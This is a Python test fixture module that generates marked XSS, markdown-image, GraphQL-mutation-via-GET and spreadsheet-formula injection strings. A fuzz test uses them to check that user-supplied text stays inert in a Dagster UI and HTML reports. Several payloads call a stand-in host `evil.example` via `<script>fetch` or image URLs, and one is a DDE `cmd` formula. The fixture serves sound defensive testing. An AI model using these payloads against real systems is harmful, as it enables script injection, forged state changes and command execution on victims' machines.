"""Hostile strings for the inert-data fuzz test (issue 20), each carrying a unique marker.

Why: every free-text value a sender controls (ids, campaign and route names, titles,
population and intervention text, extra columns) ends up somewhere a browser renders
it: markdown metadata in the Dagster UI, Plotly labels in the HTML report, tables. Data
must stay inert there: shown as text, never turned into an image fetched from another
host, a link, a script, or a GET that the webserver runs as a GraphQL mutation.

Each payload embeds its marker (`zq<nn>x`: lower-case letters and digits only, so it
survives URL encoding, HTML escaping, host-name lower-casing and slugging) in every URL
and text it holds. A request, link or image carrying a marker names the payload that
leaked. Payload URLs point at `<marker>.evil.example`, a host the project never uses.

All are at most ~200 characters (the URL-encoded mutation; the rest under 100) (a plausible id), except `long_markdown_image`, which
pushes the drop-out summary past Dagster's 1,000-character inline limit so the UI hides
it behind its "Show Markdown" button (the test clicks it).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

#: host the payloads point at; `<marker>.evil.example` (never resolvable, never ours)
EVIL_HOST = "evil.example"
MARKER = re.compile(r"zq\d{2}x")
#: the GraphQL mutation the issue saw run from a markdown image: a runless
#: materialisation of marts/stage_pass_rates, recorded when the image was fetched
_MUTATION = ('mutation{{{m}:reportRunlessAssetEvents(eventParams:{{eventType:'
             'ASSET_MATERIALIZATION,assetKey:{{path:["marts","stage_pass_rates"]}}}}){{__typename}}}}')


@dataclass(frozen=True)
class Payload:
    """A hostile string; `marker` appears in it (and in every URL it holds)."""

    name: str
    marker: str
    text: str


def _encode(query: str) -> str:
    """Percent-encode like a browser's address bar (what the issue's campaign id held)."""
    from urllib.parse import quote

    return quote(query, safe=":,()_")


def _templates() -> list[tuple[str, str]]:
    """(name, template) with `{m}` for the marker and `{u}` for `http://{m}.evil.example`."""
    return [
        # markdown images and links: absolute, protocol-relative, relative
        ("md_image_absolute", "![{m}]({u}/{m}.png)"),
        ("md_image_graphql_mutation_get", "![{m}](/graphql?query=" + _MUTATION + ")"),
        ("md_image_graphql_mutation_get_urlencoded", "![{m}](/graphql?query={enc})"),
        ("md_link_absolute", "[{m}]({u}/{m})"),
        ("md_image_protocol_relative", "![{m}](//{m}.evil.example/{m}.png)"),
        ("md_link_protocol_relative", "[{m}](//{m}.evil.example/{m})"),
        ("md_image_relative", "![{m}](./{m}.png)"),
        ("md_link_relative", "[{m}](../{m}/x)"),
        ("md_image_titled", '![{m}]({u}/{m}.png "{m}")'),
        ("md_image_angle_brackets", "![{m}](<{u}/{m} a.png>)"),
        ("md_image_inside_link", "[![{m}]({u}/{m}.png)]({u}/{m})"),
        ("md_reference_link", "[{m}][r{m}]\n\n[r{m}]: {u}/{m}"),
        ("md_reference_image", "![{m}][i{m}]\n\n[i{m}]: {u}/{m}.png"),
        ("md_autolink", "<{u}/{m}>"),
        ("md_bare_url", "see {u}/{m} now"),
        ("md_www_autolink", "www.{m}.evil.example/{m}"),
        ("md_javascript_link", "[{m}](javascript:alert('{m}'))"),
        # raw HTML (also what Plotly's pseudo-HTML labels understand: <a href>, <b>, style)
        ("html_img", "<img src={u}/{m}.png>"),
        ("html_img_onerror", "<img src=x onerror=alert('{m}')>"),
        ("html_a_href", '<a href="{u}/{m}">{m}</a>'),
        ("html_a_javascript", "<a href=\"javascript:alert('{m}')\">{m}</a>"),
        ("html_script", "<script>fetch('//{m}.evil.example/{m}')</script>"),
        ("html_iframe", '<iframe src="{u}/{m}"></iframe>'),
        ("html_svg_image", "<svg><image href=//{m}.evil.example/{m}.png /></svg>"),
        ("html_style_url", "<style>*{{background:url(//{m}.evil.example/{m}.png)}}</style>"),
        ("html_span_style_url", '<span style="background:url({u}/{m}.png)">{m}</span>'),
        ("html_bold", "<b>{m}</b><i>x</i><br>"),
        ("html_base", "<base href={u}/>{m}"),
        ("html_link_stylesheet", "<link rel=stylesheet href={u}/{m}.css>"),
        ("html_meta_refresh", '<meta http-equiv=refresh content="0;url={u}/{m}">'),
        # entities, code, table and line breakers
        ("html_entities", "&lt;img src={u}/{m}.png&gt; &#x3C;b&#x3E;{m}&amp;"),
        ("backticks", "`{m}` ``<img src={u}/{m}.png>`` ```"),
        ("table_breaker", "{m} | ![x]({u}/{m}.png) |\n| --- | --- |\n| a |"),
        ("newline_heading", "{m}\n\n# ![x]({u}/{m}.png)\n\n- [x]({u}/{m})"),
        ("escaped_markdown", "\\![{m}]({u}/{m}.png) \\[{m}\\]"),
        # spreadsheet formulas (the exports break the publication down by entry route: at
        # odd positions, `hostile_landing.rounds` makes these routes of the last round)
        ("formula_hyperlink", '=HYPERLINK("{u}/{m}","{m}")'),
        ("zero_width_and_rtl", "![\u200b{m}]({u}/{m}.png)\u202e"),
        ("formula_dde", "+{m}+cmd|' /C calc'!A0"),
        # one very long value (a summary over the inline limit)
        ("long_markdown_image", "L{m}" + "o" * 1100 + " ![{m}]({u}/{m}.png)"),
        ("formula_at", "@SUM(1+1)*cmd|{m}"),
    ]


def build_payloads() -> list[Payload]:
    out = []
    for i, (name, template) in enumerate(_templates(), start=1):
        marker = f"zq{i:02d}x"
        url = f"http://{marker}.{EVIL_HOST}"
        text = template.format(m=marker, u=url,
                               enc=_encode(_MUTATION.format(m=marker)))
        assert marker in text, name
        out.append(Payload(name, marker, text))
    return out


PAYLOADS: list[Payload] = build_payloads()
BY_MARKER: dict[str, Payload] = {p.marker: p for p in PAYLOADS}
assert len(BY_MARKER) == len(PAYLOADS)


def markers_in(text: str | None) -> list[str]:
    """Payload markers found in `text` (a URL, an attribute, a page)."""
    return sorted(set(MARKER.findall(text or "")) & BY_MARKER.keys())


def describe(marker: str) -> str:
    """`zq03x (md_image_graphql_mutation_get_urlencoded)` for assertion messages."""
    payload = BY_MARKER.get(marker)
    return f"{marker} ({payload.name})" if payload else marker
